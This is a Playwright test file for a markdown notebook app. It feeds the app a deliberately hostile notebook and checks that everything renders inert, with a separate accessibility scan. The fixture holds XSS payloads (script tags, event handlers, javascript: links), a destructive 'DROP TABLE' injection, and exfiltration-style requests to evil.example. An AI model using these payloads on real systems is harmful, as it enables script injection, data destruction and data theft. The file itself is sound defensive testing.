import AxeBuilder from '@axe-core/playwright';
import { expect, openApp, test } from './fixtures';
import { queryRows } from './app-helpers';

/** A notebook written to attack whoever opens it: every trick renders inert, nothing leaves the page. */
function hostileNotebook(): string {
  const deepYaml = Array.from({ length: 200 }, (_, i) => `${'  '.repeat(i)}k${i}:`).join('\n');
  const hugeCell = `# 大单元 huge\n\n${'很长的文字 long text '.repeat(20_000)}`;
  return `---
title: <img src=x onerror="window.__pwned='title'"> 恶意 / hostile
description: <script>window.__pwned='description'</script>
nested:
${deepYaml}
---

\`\`\`markdown {id=m1}
# 标题 <script>window.__pwned='script'</script>

<img src="x" onerror="window.__pwned='img'">
<svg onload="window.__pwned='svg'"></svg>
<iframe src="https://evil.example/"></iframe>

[点我 click](javascript:window.__pwned='link')
[entity](&#106;avascript:window.__pwned='entity')
<javascript:window.__pwned='autolink'>
![远程图片 remote](https://evil.example/pixel.png?leak=1)
[外部链接 external](https://example.com/)
\`\`\`

\`\`\`markdown {id=m2}
${hugeCell}
\`\`\`

\`\`\`sql {id=q1 name=<b>bold</b>}
SELECT 1
\`\`\`

\`\`\`sql {id=q2 name=sneaky}
SELECT 1; DROP TABLE setl
\`\`\`

\`\`\`sql {id=q3 name=reader}
SELECT * FROM read_csv('https://evil.example/leak.csv?data=secret')
\`\`\`

\`\`\`chart {id=g1 from=sneaky}
mark: bar
title: <script>window.__pwned='chart'</script>
x: "1"
\`\`\`

\`\`\`javascript {id=js1}
window.__pwned = 'js cell';
\`\`\`
`;
}

test('a hostile notebook opens inert, runs without touching the data or the network', async ({
  page,
  requests,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await openApp(page);
  await page.locator('[data-testid=notebook-file-input]').setInputFiles({
    name: 'hostile.claimlens.md',
    mimeType: 'text/markdown',
    buffer: Buffer.from(hostileNotebook()),
  });
  await expect(page.locator('[data-testid=notebook-file]')).toHaveText('hostile.claimlens.md');

  // The file's problems are listed with their lines; the rest opened.
  const problems = page.locator('[data-testid=notebook-problem]');
  await expect(problems.first()).toBeVisible();
  const codes = await problems.evaluateAll((els) => els.map((e) => e.getAttribute('data-code')));
  expect(codes).toContain('unknown-cell-type');
  expect(codes).toContain('front-matter');

  // Markup became text: no script, handler, frame or javascript: link exists in the rendered page.
  const first = page.locator('[data-testid=markdown-view]').first();
  await expect(first.locator('h1')).toContainText('<script>');
  const dangerous = await page.evaluate(() => {
    const found: string[] = [];
    const walk = (root: Document | ShadowRoot) => {
      for (const el of root.querySelectorAll('*')) {
        const tag = el.tagName.toLowerCase();
        if (['iframe', 'object', 'embed'].includes(tag)) found.push(tag);
        if (tag === 'script' && !(el as HTMLScriptElement).src) found.push('inline script');
        for (const attr of el.getAttributeNames()) if (attr.startsWith('on')) found.push(`${tag}[${attr}]`);
        const href = el.getAttribute('href') ?? '';
        if (/^\s*javascript:/i.test(href)) found.push(`href=${href}`);
        if (el.shadowRoot) walk(el.shadowRoot);
      }
    };
    walk(document);
    return found;
  });
  expect(dangerous).toEqual([]);

  // Run everything: the two-statement cell and the network read are refused; nothing ran as script.
  await page.locator('[data-testid=run-all]').click();
  const sneaky = page.locator('[data-testid=cell][data-cell-id=q2]');
  await expect(sneaky.locator('[data-testid=cell-status]')).toHaveAttribute('data-state', 'error');
  await expect(sneaky.locator('[data-testid=cell-error]')).toContainText(/一条查询|one query/);
  const reader = page.locator('[data-testid=cell][data-cell-id=q3]');
  await expect(reader.locator('[data-testid=cell-status]')).toHaveAttribute('data-state', 'error');
  expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  // The data is untouched, and the app keeps working.
  await page.locator('[data-testid=nb-new]').click();
  const rows = await queryRows(page, 'SELECT count(*) > 1000 AS intact FROM setl');
  expect(rows[0]![0]).toMatch(/true/i);
  expect(requests.foreign).toEqual([]);
});

test('the notebook passes an automated accessibility scan in both themes', async ({ page }) => {
  await openApp(page);
  const scan = async () => {
    const result = await new AxeBuilder({ page })
      .withTags(['wcag2a', 'wcag2aa'])
      // CodeMirror's content is a contenteditable textbox with its own ARIA; its scroller is fine.
      .exclude('.cm-scroller')
      .analyze();
    return result.violations
      .filter((v) => v.impact === 'serious' || v.impact === 'critical')
      .map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
  };
  expect(await scan()).toEqual([]);
  await page.locator('[data-testid=theme-switch]').click();
  expect(await scan()).toEqual([]);
});
